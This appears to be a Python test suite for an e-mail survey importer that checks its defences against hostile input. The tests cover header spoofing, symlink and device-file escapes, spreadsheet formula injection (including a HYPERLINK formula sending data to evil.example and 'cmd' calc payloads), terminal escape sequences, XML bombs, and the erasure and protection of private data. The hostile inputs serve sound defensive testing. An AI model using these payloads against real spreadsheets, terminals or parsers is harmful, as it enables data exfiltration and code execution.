"""Hostile input, identity and erasure: one test (or a few) per way a message, a file or a
database could be turned against the program or its users. Every hostile file is built here,
in the test; each test checks the outcome (skipped, quarantined with its reason, neutralised,
stripped, erased) and that the other messages of the same batch were stored.
"""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from conftest import run_cli
from typer.testing import CliRunner

from ldn_inbox.store.db import open_database, session_factory
from ldn_inbox.store.models import Contact, Extraction, Message, RawMessage, RawSource, Response
from ldn_inbox.store.packing import unpack
from ldn_inbox.store.privacy import load_key, respondent_id


def invoke(runner: CliRunner, url: str, *args: str, code: int | None = 0,
           input: str | None = None) -> Any:
    """Run ``ldn-inbox --db url ARGS`` in-process; check the exit code unless None."""
    return run_cli(runner, args, db=url, code=code, input=input)


def mail(sender: bytes, message_id: str, body: str = "1. Ja, ik neem LDN sinds 2022.\n"
         "2. De huisarts schreef het voor.\n", subject: bytes = b"Re: Vier vragen over LDN") \
        -> bytes:
    return (b"From: " + sender + b"\r\nTo: info@fibrores.org\r\nSubject: " + subject
            + b"\r\nDate: Mon, 4 Mar 2024 10:00:00 +0100\r\nMessage-ID: <"
            + message_id.encode() + b">\r\nMIME-Version: 1.0\r\n"
            b"Content-Type: text/plain; charset=utf-8\r\n\r\n"
            + body.replace("\n", "\r\n").encode())


def stored_ids(url: str) -> set[str]:
    engine = sa.create_engine(url)
    try:
        with engine.connect() as conn:
            return set(conn.scalars(sa.select(RawMessage.message_id)))
    finally:
        engine.dispose()


# --------------------------------------------------------------------------- 1. identity
SENDERS = {
    # Outlook's "Surname, First", encoded: one name, not an address "peeters"
    "jose": b"=?iso-8859-1?Q?Peeters=2C_Jos=E9?= <jose.peeters@example.org>",
    "marc": b"=?iso-8859-1?Q?Peeters=2C_Marc?= <marc.peeters@example.org>",
    # the same, unquoted and unencoded (not RFC 5322, but common)
    "anna": b"Claes, Anna <anna.claes@example.org>",
    # an encoded display name that looks like another address
    "spoof-name": b"=?utf-8?q?Vera_Victim_<victim@example.org>?= <mallory@example.org>",
    # an encoded CR/LF that, once decoded, would forge a second From line
    "spoof-crlf": b"=?utf-8?q?X=0D=0AFrom:_victim@example.org?= <trudy@example.org>",
    "victim": b"Vera Victim <victim@example.org>",
    # a control character in the address itself
    "control": b"Eve <eve@exa\x1bmple.org>",
}


def test_sender_is_parsed_from_the_raw_header(db_url: str, runner: CliRunner, env: Path,
                                              tmp_path: Path) -> None:
    box = tmp_path / "mail"
    box.mkdir()
    for name, sender in SENDERS.items():
        (box / f"{name}.eml").write_bytes(mail(sender, f"{name}@example.org"))
    invoke(runner, db_url, "import", str(box))
    assert stored_ids(db_url) == {f"{name}@example.org" for name in SENDERS}

    key = load_key(Path(os.environ["LDN_INBOX_PRIVACY_KEY_FILE"]))
    engine = open_database(db_url)
    with session_factory(engine)() as session:
        contacts = {c.address: c for c in session.scalars(sa.select(Contact))}
        sender_of = {m.message_id.split("@")[0]: m for m in session.scalars(sa.select(Message))}
    engine.dispose()
    assert set(contacts) == {"jose.peeters@example.org", "marc.peeters@example.org",
                             "anna.claes@example.org", "mallory@example.org",
                             "trudy@example.org", "victim@example.org"}
    assert contacts["jose.peeters@example.org"].display_name == "Peeters, José"
    assert contacts["anna.claes@example.org"].display_name == "Claes, Anna"
    for name, address in (("jose", "jose.peeters@example.org"),
                          ("marc", "marc.peeters@example.org"),
                          ("spoof-name", "mallory@example.org"),
                          ("spoof-crlf", "trudy@example.org"),
                          ("victim", "victim@example.org")):
        assert sender_of[name].respondent_id == respondent_id(address, key), name
    # the forged line break costs the name, never the address; the victim has one message
    assert contacts["trudy@example.org"].display_name is None
    assert "line break" in (sender_of["spoof-crlf"].parse_error or "")
    assert sender_of["control"].respondent_id is None
    assert "control characters" in (sender_of["control"].parse_error or "")

    # erasure on the parsed address: José goes, Marc (same surname) stays
    erased = invoke(runner, db_url, "forget", "--yes", "jose.peeters@example.org")
    assert "raw messages: 1" in erased.stdout
    assert stored_ids(db_url) == {f"{name}@example.org" for name in SENDERS} - {
        "jose@example.org"}
    # the victim's erasure takes the victim's message only, not the ones naming her
    invoke(runner, db_url, "forget", "--yes", "Vera Victim <victim@example.org>")
    assert stored_ids(db_url) == {f"{name}@example.org" for name in SENDERS} - {
        "jose@example.org", "victim@example.org"}


# --------------------------------------------------------------------------- 2. files
def test_import_reads_regular_files_inside_the_tree_only(
        sqlite_url: str, runner: CliRunner, env: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    secret = outside / "shadow"
    secret.write_bytes(b"root:$6$c2VjcmV0$hash:19700:0:99999:7:::\n")
    box = tmp_path / "mail"
    (box / "sub").mkdir(parents=True)
    (box / "good.eml").write_bytes(mail(b"Ann <ann@example.org>", "good@example.org"))
    (box / "sub" / "also.eml").write_bytes(mail(b"Bert <bert@example.org>", "also@example.org"))
    (box / "shadow").symlink_to(secret)                 # a link out of the tree
    (box / "zero.eml").symlink_to("/dev/zero")          # a link to a device
    (box / "etc").symlink_to("/etc", target_is_directory=True)
    (box / "alias.eml").symlink_to(box / "good.eml")    # a link inside the tree: read
    os.mkfifo(box / "pipe.eml")                         # would block a plain open()
    import socket
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(str(box / "sock.eml"))
    maildir = box / "Maildir"
    for sub in ("cur", "new", "tmp"):
        (maildir / sub).mkdir(parents=True)
    (maildir / "new" / "1700000000.1.host").write_bytes(
        mail(b"Cas <cas@example.org>", "maildir@example.org"))
    (maildir / "cur" / "1700000001.2.host:2,S").symlink_to(secret)
    # 1.1 GB on paper, a few bytes on disk: over imap.max_message_bytes, its header is kept
    huge = box / "huge.eml"
    with huge.open("wb") as out:
        out.write(mail(b"Dirk <dirk@example.org>", "huge@example.org"))
        out.truncate(1_100_000_000)
    try:
        result = invoke(runner, sqlite_url, "import", str(box), "/dev/zero", code=6)
    finally:
        listener.close()

    warnings = result.stderr
    for name, reason in (("shadow", "symbolic link out of the imported directory"),
                         ("zero.eml", "symbolic link out of the imported directory"),
                         ("etc", "symbolic link to a directory"),
                         ("pipe.eml", "named pipe (FIFO): not read"),
                         ("sock.eml", "socket: not read"),
                         ("1700000001.2.host:2,S", "symbolic link out of the imported"),
                         ("/dev/zero", "a device: not read")):
        assert any(line.startswith("warning: skipped ") and name in line and reason in line
                   for line in warnings.splitlines()), (name, warnings)
    assert "1 too big (only the header was stored)" in warnings
    assert stored_ids(sqlite_url) == {"good@example.org", "also@example.org",
                                      "maildir@example.org", "huge@example.org"}
    engine = sa.create_engine(sqlite_url)
    with engine.connect() as conn:
        datas = [unpack(stored, codec) for stored, codec in conn.execute(
            sa.select(RawMessage.stored, RawMessage.codec))]
        sources = {Path(s).name for s in conn.scalars(sa.select(RawSource.location))}
        big = conn.execute(sa.select(RawMessage.size, RawMessage.store_error)
                           .where(RawMessage.message_id == "huge@example.org")).one()
    engine.dispose()
    assert not any(b"root:" in (data or b"") for data in datas), "a file outside was stored"
    assert "good.eml" in sources
    assert "alias.eml" not in sources
    assert big.size < 1000
    assert "1100000000 bytes" in big.store_error
    assert str(huge) in big.store_error
    again = invoke(runner, sqlite_url, "import", "--quiet", str(box))  # nothing new
    assert "too big" not in again.stderr
    listed = invoke(runner, sqlite_url, "errors").stdout
    assert "huge@example.org" in listed
    assert "1100000000 bytes" in listed


# --------------------------------------------------------------------------- 6. mbox
BODY_WITH_FROM_LINES = [
    "From my experience: LDN helps against the pain.\n\nFrom the first week on I slept "
    "better.\n",
    "Forwarded, as asked:\n\nFrom Jan Peeters on 3 March\nhe wrote that it works.\n",
    "From 2021 to 2023 I took 4.5 mg.\n\nFrom - to be honest -\nno side effects.\n",
]


@pytest.mark.parametrize(("line", "envelope"), [
    (b"From jan@example.org Mon Mar  4 10:00:00 2024\n", True),
    (b"From jan@example.org  Sun Jun 16 17:53:21 2013\n", True),
    (b"From mrc@CAC.Washington.EDU Mon Feb  8 02:53:47 PST 1993\n", True),
    (b"From 1844347792267117879@xxx Fri Jun 03 12:55:43 +0000 2022\n", True),
    (b"From - Thu, 24 Nov 2022 19:06:16 GMT\n", True),
    (b'From "Jan Peeters"@example.org Mon Mar  4 10:00:00 2024\r\n', True),
    (b"From my experience: LDN helps.\n", False),
    (b"From 2021 to 2023 I took 4.5 mg.\n", False),
    (b"From Jan Peeters on Mon Mar 4 2024\n", False),
    (b"From - \n", False),
])
def test_envelope_lines(line: bytes, envelope: bool) -> None:
    from ldn_inbox.sources.files import is_envelope_line

    assert is_envelope_line(line) is envelope


def test_mbox_splits_at_envelope_lines_only(sqlite_url: str, runner: CliRunner, env: Path,
                                            tmp_path: Path) -> None:
    messages = [mail(f"P{i} <p{i}@example.org>".encode(), f"mbox-{i}@example.org",
                     body).replace(b"\r\n", b"\n") for i, body in enumerate(BODY_WITH_FROM_LINES)]
    envelopes = [b"From p0@example.org Mon Mar  4 10:00:00 2024\n",
                 b"From - Thu, 24 Nov 2022 19:06:16 GMT\n",
                 b"From - \n"]  # no date: an envelope only because a header field follows
    path = tmp_path / "inbox.mbox"
    path.write_bytes(b"\n".join(e + m for e, m in zip(envelopes, messages, strict=True)))
    result = invoke(runner, sqlite_url, "import", str(path))
    assert result.stdout.startswith("3 seen: 3 new"), result.stdout
    engine = sa.create_engine(sqlite_url)
    with engine.connect() as conn:
        stored = {message_id: unpack(data, codec) for message_id, data, codec in conn.execute(
            sa.select(RawMessage.message_id, RawMessage.stored, RawMessage.codec))}
    engine.dispose()
    assert stored == {f"mbox-{i}@example.org": m for i, m in enumerate(messages)}


# --------------------------------------------------------------------------- 3. exports
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]


def test_exports_never_hold_a_formula(db_url: str, runner: CliRunner, env: Path,
                                      tmp_path: Path) -> None:
    box = tmp_path / "mail"
    box.mkdir()
    for i, formula in enumerate(FORMULAS):
        (box / f"f{i}.eml").write_bytes(mail(b"F <f@example.org>", formula))
    # a control character the XLSX format cannot hold, in the text the evidence comes from
    (box / "esc.eml").write_bytes(mail(b"E <e@example.org>", "esc@example.org",
                                       "1. Ja\x1b[2J, ik neem LDN.\n2. De huisarts.\n"))
    invoke(runner, db_url, "import", str(box))
    wanted = {*FORMULAS, "esc@example.org"}
    assert stored_ids(db_url) == wanted

    import csv
    import io

    invoke(runner, db_url, "export", "--full", "--format", "csv", "-o",
           str(tmp_path / "out.csv"))
    text = (tmp_path / "out.csv").read_text("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {row["message_id"] for row in rows} == {"'" + f for f in FORMULAS} | {
        "esc@example.org"}
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value

    from openpyxl import load_workbook

    invoke(runner, db_url, "export", "--full", "--format", "xlsx", "-o",
           str(tmp_path / "out.xlsx"))
    sheet = load_workbook(tmp_path / "out.xlsx").active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a live formula"
    ids = {row[1].value for row in sheet.iter_rows(min_row=2)}  # after response_id
    assert ids == {"'" + f for f in FORMULAS} | {"esc@example.org"}


# --------------------------------------------------------------------------- 4. terminals
ESCAPES = {
    "title": "\x1b]0;owned-title\x1b\\",          # OSC 0, ended by ST (ESC \)
    "clipboard": "\x1b]52;c;b3duZWQtY2xpcA==\x07",  # OSC 52: write the clipboard
    "hidden": "\x1b[8m",                           # SGR 8: invisible text
    "clear": "\x1b[2J",                            # erase the screen
    "c1": "\x9b31m",                               # 8-bit CSI
}


def _unsafe(text: str) -> list[str]:
    return [ch for ch in text if (ord(ch) < 32 and ch not in "\n\t") or 0x7f <= ord(ch) < 0xa0]


def test_terminal_text_is_stripped_of_escapes(sqlite_url: str, runner: CliRunner, env: Path,
                                              tmp_path: Path,
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    box = tmp_path / "mail"
    box.mkdir()
    body = ("1. Ja, ik neem LDN {title}{clipboard}sinds 2021.\n"
            "2. {hidden}{clear}{c1}De huisarts schreef het voor.\n").format(**ESCAPES)
    (box / "escapes.eml").write_bytes(mail(
        b"Esc <esc@example.org>", "escapes@example.org", body,
        subject=("Re: LDN " + ESCAPES["title"] + ESCAPES["c1"]).encode()))
    (box / "plain.eml").write_bytes(mail(b"Ann <ann@example.org>", "plain@example.org"))
    # a file name that would forge a log line and retitle the window
    forged = "x\x1b]0;owned\x07\nwarning: skipped forged.eml: all clear"
    (box / forged).write_bytes(b"not an e-mail\n")
    result = invoke(runner, sqlite_url, "import", str(box))
    assert stored_ids(sqlite_url) == {"escapes@example.org", "plain@example.org"}
    assert not _unsafe(result.stderr.replace("\n", "")), "a control character in a warning"
    assert not [line for line in result.stderr.splitlines()
                if line.startswith("warning: skipped forged.eml")], result.stderr
    assert "\\x1b]0;owned\\x07\\x0awarning" in result.stderr

    # the exact bytes go to a file or a pipe; a terminal gets them inert
    exact = invoke(runner, sqlite_url, "raw", "escapes@example.org").stdout_bytes
    assert ESCAPES["clipboard"].encode() in exact
    from ldn_inbox import cli

    with monkeypatch.context() as patch:
        patch.setattr(cli, "_stdout_is_tty", lambda: True)
        for args in (["raw", "escapes@example.org"], ["export", "--full", "--format", "csv"],
                     ["export", "--full", "--format", "jsonl"]):
            shown = invoke(runner, sqlite_url, *args).stdout
            assert not _unsafe(shown), (args, _unsafe(shown))

    import asyncio

    from ldn_inbox.review.tui import STYLE_EVIDENCE, Position, ReviewApp

    engine = open_database(sqlite_url)
    seen: dict[str, Any] = {}

    async def look() -> None:
        app = ReviewApp(session_factory(engine), "anne", Position(current="escapes@example.org"))
        async with app.run_test(size=(100, 30)) as pilot:
            await pilot.pause()
            screen = app.review_screen
            seen["text"] = screen.message_text
            seen["svg"] = app.export_screenshot()
            await pilot.press("s")  # skip: the status line names the record
            seen["status"] = screen.status_text.plain

    try:
        asyncio.run(look())
    finally:
        engine.dispose()
    text = seen["text"]
    plain = text.plain
    assert not _unsafe(plain), [hex(ord(c)) for c in _unsafe(plain)]
    # (the subject's control characters were dropped when it was stored: what is left of
    # its escapes is plain text; the body's escapes are removed whole)
    body_shown = plain.split("\n\n", 1)[1]
    for payload in ("owned-title", "52;c", "b3duZWQ", "[8m", "[2J", "31m"):
        assert payload not in body_shown, payload
    assert "sinds 2021" in plain
    assert "De huisarts schreef het voor" in plain
    # the evidence still lights up the right words once the escapes are gone
    start = plain.index("huisarts")
    assert any(str(span.style) == STYLE_EVIDENCE and span.start <= start < span.end
               for span in text.spans), "the prescriber's evidence is misplaced"
    svg = seen["svg"]
    assert "\x1b" not in svg, svg[max(0, svg.index("\x1b") - 300):svg.index("\x1b") + 50]
    assert seen["status"].startswith("skipped #"), seen["status"]


# --------------------------------------------------------------------------- 5. resources
GOLDEN = sorted((Path(__file__).resolve().parent.parent / "fixtures" / "emails").glob("*.eml"))


def with_attachment(message_id: str, filename: str, content_type: str, data: bytes) -> bytes:
    import base64

    return (b"From: Att <att@example.org>\r\nTo: info@fibrores.org\r\nSubject: Re: LDN\r\n"
            b"Message-ID: <" + message_id.encode() + b">\r\nMIME-Version: 1.0\r\n"
            b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\n'
            b"Content-Type: text/plain; charset=utf-8\r\n\r\n1. Ja, ik neem LDN.\r\n--b\r\n"
            b"Content-Type: " + content_type.encode() + b"\r\n"
            b'Content-Disposition: attachment; filename="' + filename.encode() + b'"\r\n'
            b"Content-Transfer-Encoding: base64\r\n\r\n"
            + base64.encodebytes(data).replace(b"\n", b"\r\n") + b"--b--\r\n")


def xml_bomb_docx(xml_bytes: int) -> bytes:
    """A real .docx (it opens in a word processor) whose document.xml unpacks to
    ``xml_bytes`` of paragraphs, in an archive of a few hundred KB."""
    import io
    import zipfile

    para = b"<w:p><w:r><w:t>LDN</w:t></w:r></w:p>"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", (
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats'
            '.org/package/2006/content-types"><Default Extension="rels" ContentType="applicati'
            'on/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" Conten'
            'tType="application/xml"/><Override PartName="/word/document.xml" ContentType="ap'
            'plication/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
            '</Types>'))
        archive.writestr("_rels/.rels", (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openx'
            'mlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://sc'
            'hemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target'
            '="word/document.xml"/></Relationships>'))
        archive.writestr("word/document.xml", b'<?xml version="1.0"?><w:document xmlns:w="http'
                         b'://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
                         + para * (xml_bytes // len(para)) + b"</w:body></w:document>")
    return out.getvalue()


def deep_multipart(depth: int) -> bytes:
    out = (b"From: Deep <deep@example.org>\r\nSubject: Re: LDN\r\n"
           b"Message-ID: <deep@example.org>\r\nMIME-Version: 1.0\r\n"
           b'Content-Type: multipart/mixed; boundary="n0"\r\n\r\n')
    for level in range(1, depth):
        out += b'--n%d\r\nContent-Type: multipart/mixed; boundary="n%d"\r\n\r\n' % (
            level - 1, level)
    out += b"--n%d\r\nContent-Type: text/plain\r\n\r\n1. Ja, LDN.\r\n" % (depth - 1)
    return out + b"".join(b"--n%d--\r\n" % level for level in reversed(range(depth)))


def test_memory_limit_is_enforced_and_lifted() -> None:
    from ldn_inbox.limits import MemoryLimitExceeded, memory_limit

    with pytest.raises(MemoryLimitExceeded), memory_limit(64 * 2**20):
        bytearray(256 * 2**20)
    assert len(bytearray(256 * 2**20)) == 256 * 2**20, "the limit outlived its block"


def test_memory_limit_holds_with_freed_memory_kept() -> None:
    """Between limits the process keeps up to TRIM_SLACK_BYTES of freed heap; a block still
    cannot take more than its own allowance and that slack."""
    from ldn_inbox.limits import TRIM_SLACK_BYTES, MemoryLimitExceeded, memory_limit

    for _ in range(20):  # blocks that grow and free the heap, as messages do
        with memory_limit(64 * 2**20):
            held = [bytearray(2**16) for _ in range(200)]
            del held
    with pytest.raises(MemoryLimitExceeded), memory_limit(64 * 2**20):
        bytearray(64 * 2**20 + TRIM_SLACK_BYTES + 16 * 2**20)
    with memory_limit(64 * 2**20):
        assert len(bytearray(48 * 2**20)) == 48 * 2**20, "a block within its allowance refused"


@pytest.mark.parametrize("workers", ["1", "2"])
def test_bounded_work_per_message(sqlite_url: str, env: Path, tmp_path: Path,
                                  workers: str) -> None:
    """A batch large enough for worker processes (or coded in the run itself), imported by
    a real ``ldn-inbox`` process: the hostile messages are cut, refused or quarantined with
    the reason; every other message is stored and coded."""
    import subprocess
    import sys

    box = tmp_path / "mail"
    box.mkdir()
    normal = GOLDEN[:26]
    for path in normal:
        (box / path.name).write_bytes(path.read_bytes())
    (box / "xml-bomb.eml").write_bytes(with_attachment(
        "xml-bomb@example.org", "antwoord.docx", "application/vnd.openxmlformats-"
        "officedocument.wordprocessingml.document", xml_bomb_docx(45_000_000)))
    # 4.5 MB of text: cut to 500,000 characters and coded
    (box / "long-text.eml").write_bytes(mail(
        b"Long <long@example.org>", "long-text@example.org",
        "1. Ja, ik neem LDN sinds 2021.\n" + "En het helpt, elke dag weer.\n" * 150_000))
    (box / "deep.eml").write_bytes(deep_multipart(2000))
    (box / "memory.eml").write_bytes(with_attachment(
        "memory@example.org", "scan.tiff", "application/octet-stream", os.urandom(16 * 2**20)))
    # a smaller memory limit than the default, so that a 16 MB attachment exceeds it
    done = subprocess.run(
        [str(Path(sys.executable).with_name("ldn-inbox")), "--db", sqlite_url, "import",
         str(box)], capture_output=True, text=True, timeout=600, check=False,
        env={**os.environ, "LDN_INBOX_RUN_WORKERS": workers,
             "LDN_INBOX_RUN_MESSAGE_MEMORY": "64"})
    assert done.returncode == 6, done.stderr

    engine = open_database(sqlite_url)
    with session_factory(engine)() as session:
        messages = {m.message_id: m for m in session.scalars(sa.select(Message))}
        coded = set(session.scalars(sa.select(Message.message_id).join(
            Response, Response.message_pk == Message.id)))
    engine.dispose()
    assert len(messages) == len(normal) + 4, "every message is stored"
    quarantined = {mid: m.parse_error for mid, m in messages.items()
                   if m.parse_status == "parse_error"}
    hostile = {"deep@example.org", "memory@example.org"}
    # under this lowered limit, a worker that coded other messages first is now and then a
    # few MiB short for parsing the long text: then it is kept raw with the memory error
    assert hostile <= set(quarantined) <= hostile | {"long-text@example.org"}, quarantined
    if "long-text@example.org" in quarantined:
        assert "MemoryLimitExceeded" in quarantined["long-text@example.org"]
    assert f"{len(quarantined)} message(s) quarantined" in done.stderr
    assert "nested too deep" in quarantined["deep@example.org"]
    assert "MemoryLimitExceeded" in quarantined["memory@example.org"]
    assert "64 MiB" in quarantined["memory@example.org"]
    (bomb,) = [a for a in messages["xml-bomb@example.org"].attachments
               if a["filename"] == "antwoord.docx"]
    assert "XML unpacks to" in bomb["error"]
    long_text = messages["long-text@example.org"]
    if "long-text@example.org" not in quarantined:
        assert "cut to its first 500000 characters" in (long_text.parse_error or "")
        assert len(long_text.own_text or "") <= 500_000
    assert coded == set(messages) - set(quarantined), "the rest of the batch is coded"


# --------------------------------------------------------------------------- 7. erasure
SECRET = b"erase-me-7f3a@example.org"
SECRET_TEXT = b"Zeldzame-aandoening-Qx91"


def copies(db_file: Path, needle: bytes) -> int:
    """How often ``needle`` is in the SQLite file and its write-ahead log."""
    return sum(path.read_bytes().count(needle) for path in
               (db_file, db_file.with_name(db_file.name + "-wal")) if path.exists())


def packed_forms(url: str, message_id: str) -> list[bytes]:
    """The compressed forms a message is stored in (raw bytes, quoted and learn texts), to
    look for in the file next to the plain words, which compression hides."""
    engine = sa.create_engine(url)
    with engine.connect() as conn:
        row = conn.execute(
            sa.select(RawMessage.stored, Message.quoted_packed, Extraction.learn_packed)
            .outerjoin(Message, Message.raw_id == RawMessage.id)
            .outerjoin(Extraction, Extraction.message_pk == Message.id)
            .where(RawMessage.message_id == message_id)).one()
    engine.dispose()
    return [blob for blob in row if blob is not None and len(blob) >= 16]


def test_erasure_leaves_no_copy_in_the_sqlite_files(runner: CliRunner, env: Path,
                                                    tmp_path: Path) -> None:
    import sqlite3

    db_file = tmp_path / "erase.sqlite"
    url = f"sqlite:///{db_file}"
    second = SECRET.replace(b"erase-me", b"erase-too")
    kept = SECRET.replace(b"erase-me", b"keep-me")
    box = tmp_path / "mail"
    box.mkdir()
    (box / "secret.eml").write_bytes(mail(b"Geheim <" + SECRET + b">", "secret@example.org",
                                          "1. Ja, LDN voor " + SECRET_TEXT.decode() + ".\n"))
    (box / "second.eml").write_bytes(mail(b"Twee <" + second + b">", "second@example.org"))
    (box / "other.eml").write_bytes(mail(b"Eva <" + kept + b">", "other@example.org"))
    invoke(runner, url, "import", str(box))
    engine = open_database(url)
    with engine.connect() as conn:
        assert conn.exec_driver_sql("PRAGMA secure_delete").scalar() == 1
    engine.dispose()
    assert copies(db_file, SECRET) > 0, "the test must start with copies to erase"
    secret_forms = packed_forms(url, "secret@example.org")
    assert secret_forms, "the raw bytes are stored packed"
    assert all(copies(db_file, blob) > 0 for blob in secret_forms)

    # forget: no copy left in the file or its write-ahead log
    erased = invoke(runner, url, "forget", "--yes", SECRET.decode())
    assert "warning" not in erased.stderr
    assert copies(db_file, SECRET) == 0
    assert copies(db_file, SECRET_TEXT) == 0
    assert [copies(db_file, blob) for blob in secret_forms] == [0] * len(secret_forms)

    # a reader holding an older state keeps old pages alive: said, not hidden
    reader = sqlite3.connect(db_file)
    reader.execute("BEGIN")
    assert reader.execute("SELECT count(*) FROM raw_messages").fetchone() == (2,)
    held = invoke(runner, url, "forget", "--yes", second.decode())
    assert "erased:" in held.stdout
    assert "another connection to the database" in held.stderr
    reader.close()
    assert "database vacuumed" in invoke(runner, url, "db", "vacuum").stdout
    assert copies(db_file, second) == 0
    assert stored_ids(url) == {"other@example.org"}

    # purge: the raw bytes of old coded messages leave the file too
    engine = sa.create_engine(url)
    with engine.begin() as conn:
        conn.execute(sa.update(RawMessage).values(
            first_seen_at=sa.func.datetime("now", "-200 days")))
    engine.dispose()
    header = b"From: Eva <" + kept + b">"
    kept_raw = packed_forms(url, "other@example.org")[0]
    assert copies(db_file, kept_raw) > 0
    invoke(runner, url, "purge", "--raw-older-than", "90d")
    assert copies(db_file, kept_raw) == 0, "the raw bytes are still in the file"
    assert copies(db_file, header) == 0, "the raw header is still in the file"
    assert stored_ids(url) == {"other@example.org"}


def test_forget_vacuum_on_any_backend(db_url: str, runner: CliRunner, env: Path,
                                      tmp_path: Path) -> None:
    box = tmp_path / "mail"
    box.mkdir()
    (box / "secret.eml").write_bytes(mail(b"Geheim <" + SECRET + b">", "secret@example.org"))
    (box / "other.eml").write_bytes(mail(b"Ann <ann@example.org>", "other@example.org"))
    invoke(runner, db_url, "import", str(box))
    plain = invoke(runner, db_url, "forget", "--yes", SECRET.decode())
    if db_url.startswith("postgresql"):
        assert "db vacuum" in plain.stderr, "PostgreSQL keeps the rows until a vacuum"
    invoke(runner, db_url, "import", str(box))  # refused (tombstone): nothing comes back
    result = invoke(runner, db_url, "purge", "--raw-older-than", "0d", "--vacuum")
    assert "warning" not in result.stderr
    assert stored_ids(db_url) == {"other@example.org"}


# --------------------------------------------------------------------------- 8. files, secrets
def mode(path: Path) -> int:
    return path.stat().st_mode & 0o777


def test_files_are_private_whatever_the_umask(runner: CliRunner, env: Path, tmp_path: Path,
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    from ldn_inbox.review.tui import Position

    db_file = tmp_path / "private.sqlite"
    url = f"sqlite:///{db_file}"
    box = tmp_path / "mail"
    box.mkdir()
    for i in range(3):
        (box / f"{i}.eml").write_bytes(mail(f"P{i} <p{i}@example.org>".encode(),
                                            f"private-{i}@example.org"))
    old_export = tmp_path / "old.csv"
    old_export.write_text("an earlier export\n")
    old_export.chmod(0o644)
    previous = os.umask(0o022)
    try:
        invoke(runner, url, "import", str(box))
        outputs = {name: tmp_path / name for name in ("out.csv", "out.jsonl", "out.xlsx")}
        for name, path in outputs.items():
            invoke(runner, url, "export", "--format", name.split(".")[1], "-o", str(path))
        invoke(runner, url, "export", "--full", "--format", "csv", "-o", str(old_export))
        invoke(runner, url, "export", "--view", "survey_responses", "--format", "sav",
               "-o", str(tmp_path / "out.sav"))
        invoke(runner, url, "report", "-o", str(tmp_path / "report.html"))
        state = tmp_path / "state" / "review.json"
        Position(state, "private-0@example.org").save()
        engine = open_database(url)  # while it is open: the -wal and -shm files
        with engine.begin() as conn:
            conn.exec_driver_sql("UPDATE messages SET subject = subject")
            sidecars = [db_file.with_name(db_file.name + s) for s in ("-wal", "-shm")]
            sidecar_modes = {p.name: mode(p) for p in sidecars if p.exists()}
        engine.dispose()
    finally:
        os.umask(previous)
    assert stored_ids(url) == {f"private-{i}@example.org" for i in range(3)}
    assert sidecar_modes, "no -wal/-shm file to look at"
    private = {db_file.name: mode(db_file), old_export.name: mode(old_export),
               "state": mode(state), "key": mode(Path(os.environ["LDN_INBOX_PRIVACY_KEY_FILE"])),
               "out.sav": mode(tmp_path / "out.sav"),
               "report": mode(tmp_path / "report.html"), **sidecar_modes,
               **{name: mode(path) for name, path in outputs.items()}}
    assert private == dict.fromkeys(private, 0o600)
    assert "private-0@example.org" in old_export.read_text("utf-8-sig")


def test_secrets_are_not_exposed(runner: CliRunner, env: Path, tmp_path: Path,
                                 caplog: pytest.LogCaptureFixture) -> None:
    config = tmp_path / "config.toml"
    config.write_text('[imap]\nhost = "127.0.0.1"\nusername = "info"\ntls = "none"\n'
                      'password = "s3cr3t-in-file"\n')
    config.chmod(0o644)
    with caplog.at_level("WARNING"):
        shown = invoke(runner, "sqlite:///unused.sqlite", "--config", str(config),
                       "config", "show")
    assert "s3cr3t" not in shown.output
    assert any(str(config) in r.getMessage() and "chmod 600" in r.getMessage()
               for r in caplog.records), caplog.text
    caplog.clear()
    config.chmod(0o600)
    with caplog.at_level("WARNING"):
        invoke(runner, "sqlite:///unused.sqlite", "--config", str(config), "config", "show")
    assert not caplog.records

    # a failing password command: its exit code, never what it printed
    config.write_text('[imap]\nhost = "127.0.0.1"\nusername = "info"\ntls = "none"\n'
                      'password_command = "echo s3cr3t-from-cmd; echo s3cr3t-err >&2; exit 3"\n')
    failed = invoke(runner, "sqlite:///unused.sqlite", "--config", str(config), "check",
                    code=4)
    assert "exit code 3" in failed.stderr
    assert "s3cr3t" not in failed.output
    assert "s3cr3t" not in caplog.text
